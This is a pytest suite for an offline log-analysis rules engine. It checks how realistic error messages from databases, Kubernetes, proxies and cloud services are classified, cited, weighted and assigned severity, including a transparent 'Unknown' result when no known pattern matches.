"""The offline `rules` engine: classification of real-looking failures, the dominant finding, its
citations, severity escalation, the honest unknown, determinism, and safety with hostile text."""

from __future__ import annotations

import builtins
import os
import random
import re
import subprocess
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from vigil.agents.builtin.knowledge import KNOWLEDGE_BASE, anchor
from vigil.agents.builtin.models import Analysis, Evidence, EvidenceItem
from vigil.agents.builtin.rules import RulesEngine
from vigil.pipeline.templates import mask_message, template_hash

T0 = datetime(2024, 1, 15, 10, 30, tzinfo=UTC)
ENGINE = RulesEngine()


def template_of(message: str) -> str:
    """The template the pipeline's miner would show for `message` (variables masked as <*>)."""
    return " ".join(mask_message(message))


def item(
    message: str,
    service: str = "payment-service",
    count: int = 10,
    severity_number: int = 17,
    *,
    template: str | None = None,
    samples: list[str] | None = None,
    seconds: float = 180,
    attributes: dict[str, str] | None = None,
    trace_ids: list[str] | None = None,
) -> EvidenceItem:
    text = template_of(message) if template is None else template
    return EvidenceItem(
        template_id=template_hash(text + "\x00" + service),
        template=text,
        service=service,
        count=count,
        first_seen=T0,
        last_seen=T0 + timedelta(seconds=seconds),
        severity_number=severity_number,
        samples=[message] if samples is None else samples,
        attributes=attributes or {},
        trace_ids=trace_ids or [],
    )


def evidence(*items: EvidenceItem) -> Evidence:
    return Evidence(project_id="proj-1", request_id="req-1", items=list(items))


def analyze(*items: EvidenceItem) -> Analysis:
    return ENGINE.analyze_sync(evidence(*items))


# (message as a real system writes it, expected error_type, whether the masked template alone
# still says it: False where the telling part is a number the miner masks)
CASES: list[tuple[str, str, bool]] = [
    # connection pools (HikariCP, SQLAlchemy, Knex, node-postgres, Jedis, the agent protocol's own example)
    (
        "HikariPool-1 - Connection is not available, request timed out after 30000ms.",
        "ConnectionPoolExhausted",
        True,
    ),
    (
        "sqlalchemy.exc.TimeoutError: QueuePool limit of size 5 overflow 10 reached, connection timed out, "
        "timeout 30.00 (Background on this error at: https://sqlalche.me/e/20/3o7r)",
        "ConnectionPoolExhausted",
        True,
    ),
    (
        "KnexTimeoutError: Knex: Timeout acquiring a connection. The pool is probably full. "
        "Are you missing a .transacting(trx) call?",
        "ConnectionPoolExhausted",
        True,
    ),
    ("Error: timeout exceeded when trying to connect", "ConnectionPoolExhausted", True),
    (
        "redis.clients.jedis.exceptions.JedisExhaustedPoolException: Could not get a resource from the pool",
        "ConnectionPoolExhausted",
        True,
    ),
    ("Connection refused: database pool exhausted", "ConnectionPoolExhausted", True),
    ("Timeout waiting for DB connection after 30s", "ConnectionPoolExhausted", True),
    # database connection limits (psycopg2, MySQL, Postgres)
    (
        'psycopg2.OperationalError: connection to server at "10.0.0.5", port 5432 failed: FATAL:  remaining '
        "connection slots are reserved for non-replication superuser connections",
        "DatabaseConnectionLimit",
        True,
    ),
    ("ERROR 1040 (HY000): Too many connections", "DatabaseConnectionLimit", True),
    ("FATAL:  sorry, too many clients already", "DatabaseConnectionLimit", True),
    # refused connections (Go, Node, Python requests, MySQL)
    ("dial tcp 10.0.0.5:5432: connect: connection refused", "ConnectionRefused", True),
    ("Error: connect ECONNREFUSED 10.0.0.7:6379", "ConnectionRefused", True),
    (
        "requests.exceptions.ConnectionError: HTTPConnectionPool(host='inventory', port=8080): Max retries "
        "exceeded with url: /v1/items (Caused by NewConnectionError('<urllib3.connection.HTTPConnection "
        "object at 0x7f3a2c1e5d50>: Failed to establish a new connection: [Errno 111] Connection refused'))",
        "ConnectionRefused",
        True,
    ),
    ("Can't connect to MySQL server on 'db.internal:3306' (111)", "ConnectionRefused", True),
    # timeouts (Go, Java, nginx, Envoy, gRPC, Postgres)
    (
        'Get "http://inventory:8080/v1/items": context deadline exceeded (Client.Timeout exceeded while '
        "awaiting headers)",
        "UpstreamTimeout",
        True,
    ),
    ("java.net.SocketTimeoutException: Read timed out", "UpstreamTimeout", True),
    (
        "2024/01/15 10:30:00 [error] 31#31: *1234 upstream timed out (110: Connection timed out) while "
        'reading response header from upstream, client: 10.0.0.1, server: api, request: "GET /v1/orders '
        'HTTP/1.1", upstream: "http://10.0.2.15:8080/v1/orders"',
        "UpstreamTimeout",
        True,
    ),
    ("upstream request timeout", "UpstreamTimeout", True),
    ("rpc error: code = DeadlineExceeded desc = context deadline exceeded", "UpstreamTimeout", True),
    ("ERROR:  canceling statement due to statement timeout", "SlowQuery", True),
    ("checkout call failed: got 504 from payments", "UpstreamTimeout", False),
    # DNS (Go, Node, Java, Python)
    ("dial tcp: lookup payments.internal on 10.96.0.10:53: no such host", "DnsResolutionFailure", True),
    ("Error: getaddrinfo ENOTFOUND api.payments.internal", "DnsResolutionFailure", True),
    (
        "java.net.UnknownHostException: payments.internal: Name or service not known",
        "DnsResolutionFailure",
        True,
    ),
    ("socket.gaierror: [Errno -3] Temporary failure in name resolution", "DnsResolutionFailure", True),
    # TLS
    ("x509: certificate signed by unknown authority", "TlsHandshakeFailure", True),
    (
        "javax.net.ssl.SSLHandshakeException: PKIX path building failed: sun.security.provider.certpath."
        "SunCertPathBuilderException: unable to find valid certification path to requested target",
        "TlsHandshakeFailure",
        True,
    ),
    ("remote error: tls: bad certificate", "TlsHandshakeFailure", True),
    (
        "x509: certificate has expired or is not yet valid: current time 2024-01-15T10:30:00Z is after "
        "2024-01-14T23:59:59Z",
        "CertificateExpired",
        True,
    ),
    (
        "requests.exceptions.SSLError: HTTPSConnectionPool(host='api.partner.com', port=443): Max retries "
        "exceeded with url: /v2/rates (Caused by SSLError(SSLCertVerificationError(1, '[SSL: "
        "CERTIFICATE_VERIFY_FAILED] certificate verify failed: certificate has expired (_ssl.c:1006)')))",
        "CertificateExpired",
        True,
    ),
    # memory
    (
        "Container api in pod api-7d9f8c6b5-x2kqz terminated: reason=OOMKilled exitCode=137",
        "OutOfMemoryKilled",
        True,
    ),
    (
        "Memory cgroup out of memory: Killed process 48213 (java) total-vm:8123456kB, anon-rss:2097152kB, "
        "file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:4567kB oom_score_adj:-997",
        "OutOfMemoryKilled",
        True,
    ),
    ('Exception in thread "main" java.lang.OutOfMemoryError: Java heap space', "OutOfMemoryKilled", True),
    (
        "FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory",
        "OutOfMemoryKilled",
        True,
    ),
    ("OOM command not allowed when used memory > 'maxmemory'.", "CacheMemoryFull", True),
    # Kubernetes
    (
        "Back-off restarting failed container payment in pod payment-7c9d8b6f5-x2kqz_prod"
        "(8f1c2a3b-1d2e-4f5a-9b8c-7d6e5f4a3b2c)",
        "CrashLoopBackOff",
        True,
    ),
    ("pod worker-5d8f7c9b4-abcde is in CrashLoopBackOff state", "CrashLoopBackOff", True),
    (
        'Failed to pull image "registry.example.com/payment:1.4.2": rpc error: code = NotFound desc = failed '
        'to pull and unpack image "registry.example.com/payment:1.4.2": not found',
        "ImagePullFailure",
        True,
    ),
    ("Error: ErrImagePull", "ImagePullFailure", True),
    ('Back-off pulling image "ghcr.io/acme/worker:sha-3f2a1b"', "ImagePullFailure", True),
    (
        'Failed to pull image "redis:7": toomanyrequests: You have reached your pull rate limit. You may '
        "increase the limit by authenticating and upgrading: https://www.docker.com/increase-rate-limit",
        "ImagePullFailure",
        True,
    ),
    (
        "0/6 nodes are available: 3 Insufficient memory, 3 node(s) had untolerated taint "
        "{node-role.kubernetes.io/control-plane: }. preemption: 0/6 nodes are available: 3 No preemption "
        "victims found for incoming pod, 3 Preemption is not helpful for scheduling.",
        "SchedulingFailure",
        True,
    ),
    (
        'Error creating: pods "worker-5d8f7c9b4-abcde" is forbidden: exceeded quota: compute-resources, '
        "requested: limits.memory=2Gi, used: limits.memory=15Gi, limited: limits.memory=16Gi",
        "ResourceQuotaExceeded",
        True,
    ),
    ("Quota 'CPUS' exceeded. Limit: 24.0 in region us-central1.", "ResourceQuotaExceeded", True),
    (
        'Readiness probe failed: Get "http://10.1.2.3:8080/ready": context deadline exceeded '
        "(Client.Timeout exceeded while awaiting headers)",
        "HealthCheckFailing",
        True,
    ),
    (
        'Liveness probe failed: Get "http://10.1.2.3:8080/healthz": dial tcp 10.1.2.3:8080: connect: '
        "connection refused",
        "HealthCheckFailing",
        True,
    ),
    ("Error: couldn't find key db-password in Secret prod/orders-db", "ConfigurationError", True),
    # disks and files
    ("OSError: [Errno 28] No space left on device: '/var/lib/app/cache/tmp1234'", "DiskFull", True),
    ('ERROR:  could not extend file "base/16384/2619": No space left on device', "DiskFull", True),
    (
        "The node was low on resource: ephemeral-storage. Threshold quantity: 10Gi, available: 512Mi.",
        "DiskFull",
        True,
    ),
    (
        "http: Accept error: accept tcp [::]:8080: accept4: too many open files; retrying in 1s",
        "FileDescriptorsExhausted",
        True,
    ),
    ("FileNotFoundError: [Errno 2] No such file or directory: '/etc/app/config.yaml'", "FileNotFound", True),
    ("Error: ENOENT: no such file or directory, open '/app/templates/invoice.hbs'", "FileNotFound", True),
    ("PermissionError: [Errno 13] Permission denied: '/var/log/app/app.log'", "FilePermissionDenied", True),
    ("java.nio.file.AccessDeniedException: /var/lib/app/cache/index.lock", "FilePermissionDenied", True),
    # rate limits (HTTP, OpenAI, AWS, nginx)
    ("HTTP 429 Too Many Requests", "RateLimited", True),
    (
        "openai.RateLimitError: Error code: 429 - {'error': {'message': 'Rate limit reached for gpt-4o in "
        "organization org-abc on tokens per min (TPM)', 'type': 'tokens', 'code': 'rate_limit_exceeded'}}",
        "RateLimited",
        True,
    ),
    (
        "botocore.exceptions.ClientError: An error occurred (ThrottlingException) when calling the PutItem "
        "operation (reached max retries: 4): Rate exceeded",
        "RateLimited",
        True,
    ),
    (
        '2024/01/15 10:30:00 [error] 31#31: *98 limiting requests, excess: 10.500 by zone "api", client: '
        '10.0.0.1, server: api, request: "POST /v1/login HTTP/1.1"',
        "RateLimited",
        True,
    ),
    ("partner API returned status 429", "RateLimited", False),
    # upstreams and dependencies (Envoy, nginx, gRPC, Spring)
    (
        "upstream connect error or disconnect/reset before headers. reset reason: connection failure, "
        "transport failure reason: delayed connect error: 111",
        "UpstreamUnavailable",
        True,
    ),
    ("no healthy upstream", "UpstreamUnavailable", True),
    (
        "2024/01/15 10:30:02 [error] 31#31: *1240 connect() failed (111: Connection refused) while connecting "
        'to upstream, client: 10.0.0.1, server: api, request: "GET /v1/cart HTTP/1.1", upstream: '
        '"http://10.0.2.16:8080/v1/cart"',
        "UpstreamUnavailable",
        True,
    ),
    (
        'rpc error: code = Unavailable desc = connection error: desc = "transport: Error while dialing: dial '
        'tcp 10.0.3.4:50051: connect: connection refused"',
        "UpstreamUnavailable",
        True,
    ),
    (
        "org.springframework.web.client.HttpServerErrorException$ServiceUnavailable: 503 Service "
        "Unavailable: [no body]",
        "DependencyServerError",
        True,
    ),
    (
        "upstream prematurely closed connection while reading response header from upstream",
        "DependencyServerError",
        True,
    ),
    ("payment provider responded with status 502", "DependencyServerError", False),
    ("inventory-service returned HTTP 500", "DependencyServerError", False),
    (
        "io.github.resilience4j.circuitbreaker.CallNotPermittedException: CircuitBreaker 'inventory' is OPEN "
        "and does not permit further calls",
        "CircuitBreakerOpen",
        True,
    ),
    ("Hystrix circuit short-circuited and is OPEN", "CircuitBreakerOpen", True),
    # databases
    (
        "com.mysql.cj.jdbc.exceptions.MySQLTransactionRollbackException: Deadlock found when trying to get "
        "lock; try restarting transaction",
        "DatabaseDeadlock",
        True,
    ),
    (
        "ERROR:  deadlock detected\nDETAIL:  Process 4711 waits for ShareLock on transaction 9912; blocked by "
        "process 4712.",
        "DatabaseDeadlock",
        True,
    ),
    ("Lock wait timeout exceeded; try restarting transaction", "DatabaseDeadlock", True),
    ('ERROR:  column "discount_code" does not exist at character 52', "SchemaMismatch", True),
    ("Unknown column 'discount_code' in 'field list'", "SchemaMismatch", True),
    ('psycopg2.errors.UndefinedTable: relation "orders_v2" does not exist', "SchemaMismatch", True),
    ("sqlite3.OperationalError: no such table: orders", "SchemaMismatch", True),
    ("ERROR:  cannot execute INSERT in a read-only transaction", "WriteToReadOnlyReplica", True),
    ("READONLY You can't write against a read only replica.", "WriteToReadOnlyReplica", True),
    (
        "org.apache.kafka.common.errors.NotLeaderOrFollowerException: For requests intended only for the "
        "leader, this error indicates that the broker is not the current leader.",
        "WriteToReadOnlyReplica",
        True,
    ),
    (
        "LOG:  duration: 5234.123 ms  statement: SELECT * FROM orders WHERE customer_id = $1",
        "SlowQuery",
        True,
    ),
    ("# Query_time: 12.004  Lock_time: 0.000 Rows_sent: 1  Rows_examined: 4823411", "SlowQuery", True),
    # authentication and authorization (Postgres, MySQL, Redis, Kafka, JWT, Kubernetes, AWS)
    ('FATAL:  password authentication failed for user "orders_app"', "AuthenticationFailure", True),
    ("Access denied for user 'app'@'10.0.3.7' (using password: YES)", "AuthenticationFailure", True),
    ("NOAUTH Authentication required.", "AuthenticationFailure", True),
    (
        "org.apache.kafka.common.errors.SaslAuthenticationException: Authentication failed during "
        "authentication due to invalid credentials with SASL mechanism SCRAM-SHA-512",
        "AuthenticationFailure",
        True,
    ),
    (
        "io.jsonwebtoken.ExpiredJwtException: JWT expired at 2024-01-15T10:00:00Z. Current time: "
        "2024-01-15T10:30:00Z",
        "AuthenticationFailure",
        True,
    ),
    ("ERROR:  permission denied for table invoices", "AuthorizationDenied", True),
    (
        'pods is forbidden: User "system:serviceaccount:prod:deployer" cannot list resource "pods" in API '
        'group "" in the namespace "prod"',
        "AuthorizationDenied",
        True,
    ),
    (
        "An error occurred (AccessDeniedException) when calling the PutItem operation: User: "
        "arn:aws:sts::123456789012:assumed-role/orders/i-0abc is not authorized to perform: dynamodb:PutItem",
        "AuthorizationDenied",
        True,
    ),
    (
        "org.apache.kafka.common.errors.TopicAuthorizationException: Not authorized to access topics: [orders]",
        "AuthorizationDenied",
        True,
    ),
    # queues
    (
        "[Consumer clientId=consumer-orders-1, groupId=orders] Offset commit failed on partition orders-3 at "
        "offset 91234: The coordinator is not aware of this member.",
        "QueueBacklog",
        True,
    ),
    ("consumer group orders lag 152340 exceeds threshold 10000", "QueueBacklog", True),
    ("Dropping data because sending_queue is full. Try increasing queue_size.", "QueueBacklog", True),
    # application errors (Java, Go, Python, Node, Django, Spring)
    (
        'java.lang.NullPointerException: Cannot invoke "com.shop.Order.getId()" because "order" is null',
        "NullReference",
        True,
    ),
    ("panic: runtime error: invalid memory address or nil pointer dereference", "NullReference", True),
    ("AttributeError: 'NoneType' object has no attribute 'id'", "NullReference", True),
    ("TypeError: Cannot read properties of undefined (reading 'id')", "NullReference", True),
    (
        "java.lang.IllegalArgumentException: Could not resolve placeholder 'PAYMENT_API_URL' in value "
        '"${PAYMENT_API_URL}"',
        "ConfigurationError",
        True,
    ),
    ("KeyError: 'DATABASE_URL'", "ConfigurationError", True),
    (
        "django.core.exceptions.ImproperlyConfigured: The SECRET_KEY setting must not be empty.",
        "ConfigurationError",
        True,
    ),
    ("SyntaxError: Unexpected token < in JSON at position 0", "PayloadDecodeError", True),
    (
        "json: cannot unmarshal string into Go struct field Order.total of type float64",
        "PayloadDecodeError",
        True,
    ),
    ("json.decoder.JSONDecodeError: Expecting value: line 1 column 1 (char 0)", "PayloadDecodeError", True),
    ("Fatal Python error: Segmentation fault", "SegmentationFault", True),
    ("worker exited on signal 11 (SIGSEGV)", "SegmentationFault", True),
    (
        'Traceback (most recent call last):\n  File "/app/worker.py", line 42, in handle\n    total = '
        "compute(order)\nZeroDivisionError: division by zero",
        "UnhandledException",
        True,
    ),
    ("UnhandledPromiseRejectionWarning: Error: invoice total mismatch", "UnhandledException", True),
    (
        'Exception in thread "scheduler-1" java.lang.IllegalStateException: unexpected state CLOSED',
        "UnhandledException",
        True,
    ),
    # connections closed under us, and callers that gave up
    (
        "read tcp 10.0.1.5:43122->10.0.2.9:5432: read: connection reset by peer",
        "ConnectionReset",
        True,
    ),
    ("Error: socket hang up", "ConnectionReset", True),
    (
        "requests.exceptions.ConnectionError: ('Connection aborted.', RemoteDisconnected('Remote end closed "
        "connection without response'))",
        "ConnectionReset",
        True,
    ),
    ("http: proxy error: context canceled", "ClientDisconnected", True),
    # releases that broke (Kubernetes, the JVM, Python, Node)
    ('Deployment "checkout" exceeded its progress deadline', "BadDeploy", True),
    ("java.lang.NoClassDefFoundError: com/acme/billing/TaxRules", "BadDeploy", True),
    ("ModuleNotFoundError: No module named 'orjson'", "BadDeploy", True),
    # N+1 reported by the detectors of ORMs (Bullet, nplusone)
    ("USE eager loading detected\n  Order => [:customer]", "NPlusOneQueries", True),
    (
        "org.apache.catalina.connector.ClientAbortException: java.io.IOException: Broken pipe",
        "ClientDisconnected",
        True,
    ),
    (
        "epoll_wait() reported that client prematurely closed connection, so upstream connection is closed "
        "too while sending request to upstream",
        "ClientDisconnected",
        True,
    ),
]

# Messages that look close to a pattern but must not be explained by one.
NEAR_MISSES = [
    "Processing order 429 for customer 1234",
    "Retrying request in 2s with exponential backoff",
    "WARNING: The TCP backlog setting of 511 cannot be enforced because /proc/sys/net/core/somaxconn is set "
    "to the lower value of 128.",
    "KeyError: 'user_id'",
    "Payment declined by issuer: insufficient funds",
    "Order 1234 failed validation: missing shipping address",
    "Cache miss for key product:123, loading from database",
]


def case_id(case: tuple[str, str, bool]) -> str:
    return f"{case[1]}:{case[0][:40]}"


@pytest.mark.parametrize("case", CASES, ids=[case_id(c) for c in CASES])
async def test_classifies_real_messages_and_cites_them(case: tuple[str, str, bool]) -> None:
    message, expected, _ = case
    it = item(message, count=37)
    result = await ENGINE.analyze(evidence(it))

    pattern = next(p for p in KNOWLEDGE_BASE if p.error_type == expected)
    assert result.engine == "rules"
    if pattern.symptom:  # a symptom is cited, but never decides a cause
        assert (result.error_type, result.known) == ("Unknown", False)
        assert "only symptoms" in result.root_cause
    else:
        assert (result.error_type, result.known) == (expected, True)
        assert result.root_cause == pattern.root_cause
        assert result.remediation[: len(pattern.remediation)] == list(pattern.remediation)
    [citation] = result.evidence
    assert (citation.template_id, citation.template, citation.service, citation.count) == (
        it.template_id,
        it.template,
        "payment-service",
        37,
    )
    quoted = re.fullmatch(rf'{expected}: matched "(.+)" in the (template|sample 1)', citation.reason)
    assert quoted is not None, citation.reason
    source = it.template if quoted.group(2) == "template" else message
    assert quoted.group(1).lower() in " ".join(source.split()).lower()


@pytest.mark.parametrize("case", [c for c in CASES if c[2]], ids=[case_id(c) for c in CASES if c[2]])
def test_masked_template_alone_is_enough(case: tuple[str, str, bool]) -> None:
    message, expected, _ = case
    match = ENGINE.classify(item(message, samples=[]))
    assert match is not None and match.pattern.error_type == expected
    assert match.where == "template"


@pytest.mark.parametrize("case", [c for c in CASES if not c[2]], ids=[case_id(c) for c in CASES if not c[2]])
def test_numeric_signals_need_the_sample(case: tuple[str, str, bool]) -> None:
    message, expected, _ = case
    without = ENGINE.classify(item(message, samples=[]))
    assert without is None or without.pattern.error_type != expected
    with_sample = ENGINE.classify(item(message))
    assert with_sample is not None and with_sample.pattern.error_type == expected
    assert with_sample.where == "sample 1"


@pytest.mark.parametrize("message", NEAR_MISSES)
def test_near_misses_stay_unknown(message: str) -> None:
    result = analyze(item(message))
    assert (result.error_type, result.known) == ("Unknown", False)


def test_own_status_code_attribute_is_not_a_dependency_error() -> None:
    it = item("GET /v1/orders completed", attributes={"http.response.status_code": "503"})
    assert analyze(it).error_type == "Unknown"


def test_every_pattern_has_real_messages_and_the_base_is_well_formed() -> None:
    types = [p.error_type for p in KNOWLEDGE_BASE]
    assert len(types) >= 20 and len(set(types)) == len(types)
    assert {c[1] for c in CASES} == set(types)
    required = {
        "ConnectionPoolExhausted", "UpstreamTimeout", "ConnectionRefused", "DnsResolutionFailure",
        "TlsHandshakeFailure", "CertificateExpired", "OutOfMemoryKilled", "CrashLoopBackOff",
        "ImagePullFailure", "DiskFull", "RateLimited", "DependencyServerError", "DatabaseDeadlock",
        "AuthenticationFailure", "AuthorizationDenied", "NullReference", "UnhandledException",
        "ConfigurationError", "SchemaMismatch", "QueueBacklog", "CircuitBreakerOpen",
        "ResourceQuotaExceeded", "FileNotFound", "FilePermissionDenied",
    }  # fmt: skip
    assert required <= set(types)
    for pattern in KNOWLEDGE_BASE:
        assert len(pattern.remediation) >= 2, pattern.error_type
        assert pattern.title == pattern.title.strip() and pattern.root_cause.endswith("."), pattern.error_type


def test_anchors_are_required_literals() -> None:
    assert anchor(r"\bToo many connections\b") == "too many connections"
    assert anchor(r"exit code:? 137\b") == "exit code"
    assert anchor(r"Table \S{1,100} doesn't exist") == " doesn't exist"
    assert anchor(r"duration: \S+(?: ms)? +(?:statement|execute)") == "duration: "
    assert anchor(r"Unexpected token .{1,5} in JSON") == "unexpected token "
    with pytest.raises(ValueError, match="alternation"):
        anchor(r"\bNOAUTH\b|\bWRONGPASS\b")
    # Sound on real text: whenever a signal matches, its anchor is in the lower-cased text.
    checked = 0
    for message, _, _ in CASES:
        for pattern in KNOWLEDGE_BASE:
            for key, regex in pattern.probes:
                if regex is not None and regex.search(message):
                    assert key in message.lower(), (pattern.error_type, regex.pattern)
                    checked += 1
    assert checked >= 20


# --- the dominant finding ------------------------------------------------------------------------


def test_dominant_finding_and_secondary_in_summary() -> None:
    pool = item(
        "HikariPool-1 - Connection is not available, request timed out after 30000ms.",
        count=1240,
        seconds=180,
    )
    timeouts = item('Get "http://inventory:8080/v1/items": context deadline exceeded', "checkout", count=12)
    result = analyze(timeouts, pool)

    assert result.error_type == "ConnectionPoolExhausted"
    assert result.summary.startswith("payment-service: connection pool exhausted (1,240 records in 3 min)")
    assert "also timeouts calling dependencies in checkout (12 records)" in result.summary
    assert [c.template_id for c in result.evidence] == [pool.template_id, timeouts.template_id]
    assert result.evidence[1].reason.startswith("UpstreamTimeout: ")
    assert result.services == ["checkout", "payment-service"] and result.records == 1252
    assert any(
        step.startswith("Also, for timeouts calling dependencies in checkout: ")
        for step in result.remediation
    )


def test_weight_is_records_times_severity_times_specificity() -> None:
    disk = item("OSError: [Errno 28] No space left on device", "ingest", count=100)  # 100 * 9 * 0.95
    few = item("Deadlock found when trying to get lock", "orders", count=50)  # 50 * 3 * 0.95
    assert analyze(few, disk).error_type == "DiskFull"
    many = item("Deadlock found when trying to get lock", "orders", count=1000)
    assert analyze(many, disk).error_type == "DatabaseDeadlock"  # enough records outweigh it
    as_many = item("Deadlock found when trying to get lock", "orders", count=150)  # not twice the disk's
    undecided = analyze(as_many, disk)
    assert (undecided.error_type, undecided.known) == ("Unknown", False)
    assert "competing causes" in undecided.root_cause and undecided.confidence < 0.5
    assert {c.template_id for c in undecided.evidence} == {as_many.template_id, disk.template_id}


def test_symptoms_never_outweigh_a_cause() -> None:
    disk = item("OSError: [Errno 28] No space left on device", "ingest", count=10)
    resets = item("read: connection reset by peer", "api", count=5000)
    result = analyze(resets, disk)
    assert (result.error_type, result.known) == ("DiskFull", True)
    assert "also connections reset in api (5,000 records)" in result.summary
    alone = analyze(resets)
    assert (alone.error_type, alone.known) == ("Unknown", False)
    assert "only symptoms" in alone.root_cause


def test_specificity_breaks_equal_counts_and_severity() -> None:
    deadlock = item("Deadlock found when trying to get lock; try restarting transaction", "orders", count=100)
    timeout = item("java.net.SocketTimeoutException: Read timed out", "orders", count=100)
    assert analyze(timeout, deadlock).error_type == "DatabaseDeadlock"  # 0.95 vs 0.7, both warnings


def test_records_logged_at_info_weigh_less_than_errors() -> None:
    limited = item("HTTP 429 Too Many Requests, retrying", "crawler", count=100, severity_number=9)
    denied = item('FATAL: password authentication failed for user "crawler"', "crawler", count=60)
    assert analyze(limited, denied).error_type == "AuthenticationFailure"
    loud_limited = item("HTTP 429 Too Many Requests, retrying", "crawler", count=200)
    assert analyze(loud_limited, denied).error_type == "RateLimited"


def test_one_item_is_classified_by_its_most_specific_pattern_only() -> None:
    # The message also says "timed out" (UpstreamTimeout) and "Connection refused" would be
    # ConnectionRefused; the pool pattern is the more specific explanation.
    result = analyze(item("Connection refused: database pool exhausted; request timed out"))
    assert result.error_type == "ConnectionPoolExhausted"
    assert len(result.evidence) == 1


def test_items_of_one_pattern_form_one_finding_across_services() -> None:
    a = item("dial tcp 10.0.0.5:5432: connect: connection refused", "orders", count=30)
    b = item("Error: connect ECONNREFUSED 10.0.0.7:6379", "cart", count=20)
    result = analyze(a, b)
    assert result.error_type == "ConnectionRefused"
    assert result.summary.startswith("cart, orders: connection refused (50 records")
    assert [c.service for c in result.evidence] == ["orders", "cart"]  # by count


def test_unrecognized_records_are_reported_and_lower_confidence() -> None:
    pool = item("HikariPool-1 - Connection is not available, request timed out after 30000ms.", count=100)
    alone = analyze(pool)
    noise = item("Order 1234 failed validation: missing shipping address", "orders", count=300)
    mixed = analyze(pool, noise)
    assert alone.error_type == mixed.error_type == "ConnectionPoolExhausted"
    assert "1 other template (300 records) not recognized" in mixed.summary
    assert mixed.confidence < alone.confidence
    assert mixed.evidence[-1].template_id == noise.template_id
    assert mixed.evidence[-1].reason.startswith("no known failure pattern matched")


def test_citations_say_where_the_match_was() -> None:
    sample_only = item(
        "Request to payments failed",
        template="Request to <*> failed",
        samples=["Request to payments failed: upstream returned status 429"],
    )
    assert analyze(sample_only).evidence[0].reason == ('RateLimited: matched "status 429" in the sample 1')
    attribute_only = item(
        "Call to payments failed",
        template="Call to <*> failed",
        samples=["Call to payments failed"],
        attributes={"exception.type": "java.net.UnknownHostException", "peer.service": "payments"},
    )
    result = analyze(attribute_only)
    assert result.error_type == "DnsResolutionFailure"
    assert result.evidence[0].reason == (
        'DnsResolutionFailure: matched "UnknownHostException" in the attribute exception.type'
    )


def test_citations_are_capped_per_finding_but_counts_are_not() -> None:
    items = [
        item(f"dial tcp 10.0.0.{n}:5432: connect: connection refused", f"svc-{n:02d}", count=n + 1)
        for n in range(15)
    ]
    result = analyze(*items)
    assert len(result.evidence) == 10
    assert [c.count for c in result.evidence] == list(range(15, 5, -1))
    assert "(120 records" in result.summary  # 1 + ... + 15


# --- severity ------------------------------------------------------------------------------------


def timeouts_in(*services: str, count: int = 50, severity_number: int = 17) -> list[EvidenceItem]:
    return [
        item(
            "java.net.SocketTimeoutException: Read timed out", s, count=count, severity_number=severity_number
        )
        for s in services
    ]


def test_warning_stays_warning_at_ordinary_volume() -> None:
    result = analyze(*timeouts_in("checkout"))
    assert (result.severity, result.notify) == ("warning", False)
    assert "severity raised" not in result.summary


def test_breadth_raises_severity() -> None:
    result = analyze(*timeouts_in("checkout", "cart", "search"))
    assert (result.severity, result.notify) == ("critical", True)
    assert result.summary.endswith("severity raised: 3 services affected")


def test_volume_raises_severity() -> None:
    result = analyze(*timeouts_in("checkout", count=1500))
    assert (result.severity, result.notify) == ("critical", True)
    assert result.summary.endswith("severity raised: 1,500 records")


def test_fatal_records_make_it_critical() -> None:
    result = analyze(*timeouts_in("checkout", count=3, severity_number=21))
    assert (result.severity, result.notify) == ("critical", True)
    assert result.summary.endswith("severity raised: FATAL records")


def test_informational_is_raised_one_level_only() -> None:
    result = analyze(item("LOG:  duration: 2345.1 ms  statement: SELECT 1", "db", count=5000))
    assert (result.error_type, result.severity, result.notify) == ("SlowQuery", "warning", False)


def test_debug_level_records_lower_severity() -> None:
    result = analyze(*timeouts_in("checkout", severity_number=5))
    assert result.severity == "informational" and not result.notify


def test_a_critical_secondary_finding_sets_the_severity() -> None:
    resets = item("read: connection reset by peer", "api", count=900)
    expired = item("x509: certificate has expired or is not yet valid", "billing", count=5)
    result = analyze(resets, expired)
    assert result.error_type == "CertificateExpired"  # resets are a symptom, whatever their count
    assert (result.severity, result.notify) == ("critical", True)
    assert "also connections reset in api (900 records)" in result.summary


# --- when the engine does not know ---------------------------------------------------------------


def unknown_items() -> list[EvidenceItem]:
    return [
        item("Order 1234 failed validation: missing shipping address", "orders", count=50, trace_ids=["4bf92f3577b34da6a3ce929d0e0e4736"]),
        item("Payment declined by issuer for card ending 4242", "billing", count=120),
        item("Invoice 991 total mismatch: expected 10.00 got 9.99", "billing", count=7),
        item("Coupon SPRING24 not applicable to cart 881", "cart", count=3),
    ]  # fmt: skip


def test_unknown_is_honest() -> None:
    result = analyze(*unknown_items())
    assert (result.error_type, result.known) == ("Unknown", False)
    assert result.confidence <= 0.2
    assert result.root_cause.startswith("Unknown: ")
    # No cause, title or fix of the knowledge base is claimed.
    claims = [p.root_cause for p in KNOWLEDGE_BASE] + [p.title for p in KNOWLEDGE_BASE]
    claims += [step for p in KNOWLEDGE_BASE for step in p.remediation]
    text = " ".join([result.summary, result.root_cause, *result.remediation])
    assert not [claim for claim in claims if claim in text]
    # Top templates by count, most frequent first, with their counts.
    assert result.summary.startswith(
        "No known failure pattern matches 4 templates (180 records in billing, cart, orders)"
    )
    first = result.summary.index('"Payment declined by issuer for card ending <*>" (120 records in billing)')
    second = result.summary.index(
        '"Order <*> failed validation: missing shipping address" (50 records in orders)'
    )
    assert first < second and "Coupon" not in result.summary
    assert [c.count for c in result.evidence] == [120, 50, 7]
    assert all(c.reason.startswith("no known failure pattern matched") for c in result.evidence)
    # Investigation, not invented fixes.
    assert "Payment declined by issuer for card ending <*>" in result.remediation[0]
    assert any("4bf92f3577b34da6a3ce929d0e0e4736" in step for step in result.remediation)
    assert (result.severity, result.notify) == ("warning", False)


def test_unknown_notifies_only_when_severity_is_high() -> None:
    fatal = item("Ledger invariant violated for account 7731", "ledger", count=2, severity_number=21)
    result = analyze(*unknown_items(), fatal)
    assert (result.known, result.severity, result.notify) == (False, "critical", True)
    assert result.summary.endswith("severity raised: FATAL records")


def test_unknown_breadth_counts_one_template_not_unrelated_ones() -> None:
    # test_unknown_is_honest: four unrelated templates in three services stay a warning.
    same = [item("Ledger sync stalled for partition 7", s, count=5) for s in ("ledger", "billing", "payouts")]
    result = analyze(*same)
    assert (result.known, result.severity, result.notify) == (False, "critical", True)
